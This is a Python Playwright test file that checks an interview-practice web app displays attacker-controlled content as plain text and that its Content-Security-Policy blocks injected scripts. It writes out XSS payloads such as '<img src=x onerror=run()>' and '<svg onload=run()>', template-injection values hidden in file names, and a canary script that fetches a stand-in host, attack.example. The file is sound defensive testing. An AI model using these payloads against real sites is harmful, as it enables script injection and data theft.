"""Text that tries to run or to load something (attacks.yaml), in every place where text of others is shown."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest
import yaml
from playwright.sync_api import Browser, Page, expect

from agent.content import DEFAULT_QUESTION, DEFAULT_TEMPLATE, load_content
from agent.examiner.llm.guards import Guard
from agent.service import InterviewService
from agent.settings import ModelSettings
from agent.state import ExaminerName, Move, MoveKind, Setup, Source, Turn
from agent.storage import open_storage
from evals.scripted_model.playing import model
from evals.scripted_model.server import ModelServer
from ui.screenshots import end, ready, say

pytestmark = pytest.mark.browser
HERE = Path(__file__).parent
ATTACKS: dict[str, list[str]] = yaml.safe_load((HERE / "attacks.yaml").read_text(encoding="utf-8"))
EVERY = [text for group in ATTACKS.values() for text in group]
LONG = "shown " + "x" * 300 + " " + "ж" * 300 + " shown"
SUSPECT = (HERE / "suspect.js").read_text(encoding="utf-8")
RUN = """window.run = () => { window.__pwned = true; fetch("https://attack.example/ran"); }; Object.defineProperty(
  window, "__pwned", { set() { top.postMessage("pwned", "*"); this.pwned = true; }, get() { return this.pwned; } });"""
LOCAL = ("http://127.0.0.1:", "data:", "blob:", "about:")
SETUP = Setup(question=DEFAULT_QUESTION, template=DEFAULT_TEMPLATE, seed=5)
GRADED_MS = 120_000


@pytest.fixture(scope="module")
def service(home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[InterviewService]:
    """Content of a user whose question and template are full of attacks."""
    content = load_content()
    question, template = content.questions[DEFAULT_QUESTION], content.templates[DEFAULT_TEMPLATE]
    line = " ".join(ATTACKS["html"] + ATTACKS["template"] + ATTACKS["markdown"][:6]).replace("\n", " ")
    reference = question.reference.model_copy(update=dict.fromkeys(type(question.reference).model_fields, line))
    question = question.model_copy(update={"title": line, "prompt": "\n\n".join(EVERY), "reference": reference})
    phases = [phase.model_copy(update={"title": ATTACKS["html"][2]}) for phase in template.phases]
    template = template.model_copy(update={"title": line, "description": line, "phases": phases})
    content = replace(
        content,
        questions=content.questions | {question.id: question},
        templates=content.templates | {template.id: template},
    )
    storage = open_storage(tmp_path_factory.mktemp("attacks") / "sessions.sqlite")
    yield InterviewService(storage, content, home)
    storage.conn.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """Without the server's Content-Security-Policy: what is shown must be harmless by itself."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)
    context.add_init_script(RUN)
    found = context.new_page()
    wrong: list[str] = []
    found.on("request", lambda r: None if r.url.startswith(LOCAL) else wrong.append(f"asked for {r.url}"))
    found.on("dialog", lambda dialog: wrong.append(f"said {dialog.message}"))
    context.on("page", lambda opened: wrong.append(f"opened {opened.url}"))
    yield found
    for frame in found.frames:
        wrong += frame.evaluate(SUSPECT)
    widths = found.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    context.close()
    assert wrong == []
    assert widths[0] <= widths[1]


def test_content_and_every_turn_of_a_transcript_stay_text(page: Page, address: str, service: InterviewService) -> None:
    page.goto(address)
    page.click("#setup input >> nth=0")
    page.keyboard.press("Escape")
    session = service.start(SETUP)
    _transcript(service, session)
    page.goto(f"{address}?session={session}")
    ready(page)
    for speaker in ("user", "bot"):
        turns = page.locator(f"#chat .{speaker}.message")
        expect(turns.last).to_contain_text("shown")
        hidden = [t for t in turns.all_inner_texts() if "shown" not in t]
        assert hidden == []
    for summary in page.locator("#sources summary").all():
        summary.click()
    expect(page.locator("#sources .passage").first).to_contain_text("<script>run()</script>")
    page.wait_for_timeout(1500)  # diagrams are drawn, pictures would be asked for
    assert page.locator("#chat svg[id^=mermaid]").count() > 0


def _transcript(service: InterviewService, session: str) -> None:
    """Each attack once by the candidate and once by the interviewer, and as a passage and its headings."""
    state = service.view(session)
    source = Source(section="a#b", title=EVERY[2], heading=EVERY[0], text="\n".join(EVERY), rests_on=EVERY[1], score=1)
    turns = list(state.turns)
    for text in [*EVERY, LONG]:
        common = {"phase": state.phases[0].id, "at": 0, "text": text}
        turns.append(Turn(id=len(turns), speaker="candidate", **common))
        hint = Move(kind=MoveKind.HINT, rung=1)
        turns.append(
            Turn(id=len(turns), speaker="interviewer", examiner="embedded", move=hint, sources=[source], **common)
        )
    service._graph.update_state({"configurable": {"thread_id": session}}, {"turns": turns}, as_node="speak")


def test_a_model_that_attacks_and_a_candidate_who_does_up_to_the_report(
    page: Page, address: str, service: InterviewService, model_server: ModelServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Guard, "check", lambda guard, sentence: None)
    spoken = iter(["\n\n".join(ATTACKS["html"]), "\n\n".join(ATTACKS["markdown"]), *["shown"] * 99])
    model_server.behave(model(say=lambda note: next(spoken)))
    server = ModelSettings(base_url=model_server.url, api_key="k", interviewer_model=ATTACKS["html"][2])
    session = service.start(SETUP.model_copy(update={"examiner": ExaminerName.LLM}), server)
    page.goto(f"{address}?session={session}")
    ready(page)
    say(page, "I split by time, because a random split leaks. " + " ".join(ATTACKS["html"]))
    say(page, "I predict watch time with NDCG offline, " + " because ".join(ATTACKS["template"] + ATTACKS["markdown"]))
    expect(page.locator("#chat .user.message").first).to_contain_text("<script>run()</script>")
    expect(page.locator("#chat .bot.message").nth(1)).to_contain_text("shown")
    end(page)
    report = page.frame_locator("#report iframe")
    closed = report.locator("details:not([open]) > summary")
    while closed.count():
        closed.first.click()
    expect(report.locator(".turn").nth(1)).to_contain_text("<script>run()</script>")
    page.wait_for_timeout(500)
    page.goto(address)
    expect(page.locator("#continue")).to_contain_text("<script>")


def test_transcripts_their_speakers_and_their_file_names_stay_text(page: Page, address: str, tmp_path: Path) -> None:
    name = "<img src=x onerror=run()>"
    talk = "\n".join(f"Interviewer: Why? {a}\n{name}: Because {b}" for a, b in pairwise(EVERY))
    files = [tmp_path / f"{n} <img src=x onerror=run()> ${{run()}}.{kind}" for n, kind in enumerate(("txt", "md"))]
    for file in files:
        file.write_text(talk.replace("\u0007", ""), encoding="utf-8")
    broken = tmp_path / "<svg onload=run()> {{run()}}.pdf"
    broken.write_bytes(b"%PDF-1.7 <script>run()</script>")
    page.goto(address)
    page.get_by_role("tab", name="Feedback").click()
    page.set_input_files("#drop input[type=file]", [*files, broken])
    expect(page.locator("#listed li")).to_have_count(3)
    page.click("#give")
    expect(page.locator("#summary h2")).to_have_text("2 of 3 graded", timeout=GRADED_MS)
    expect(page.locator("#summary .error")).to_contain_text("is a PDF")
    expect(page.frame_locator("#grade iframe").locator("body")).to_contain_text("shown")
    page.wait_for_timeout(500)


def test_the_policy_stops_what_would_get_through(browser: Browser, address: str) -> None:
    context = browser.new_context()
    context.add_init_script(RUN)
    page = context.new_page()
    page.goto(address)
    page.wait_for_selector("#start")
    loaded: list[str] = []
    page.on("requestfinished", lambda request: loaded.append(request.url))
    # answered, so that it would finish; what the policy stops never gets here
    page.route("https://attack.example/**", lambda route: route.fulfill(body=""))
    page.evaluate(
        """attacks => {
          const place = document.createElement("div");
          document.body.append(place);
          for (const attack of attacks) place.insertAdjacentHTML("beforeend", attack);
          const script = document.createElement("script");
          script.textContent = "run()";
          place.append(script);
          for (const link of place.querySelectorAll("a[href^=javascript]")) link.click();
        }""",
        [text for text in ATTACKS["html"] if "http-equiv" not in text and "position: fixed" not in text],
    )
    page.wait_for_timeout(500)
    assert page.evaluate("Boolean(window.__pwned)") is False
    assert [url for url in loaded if not url.startswith(LOCAL)] == []
    context.close()
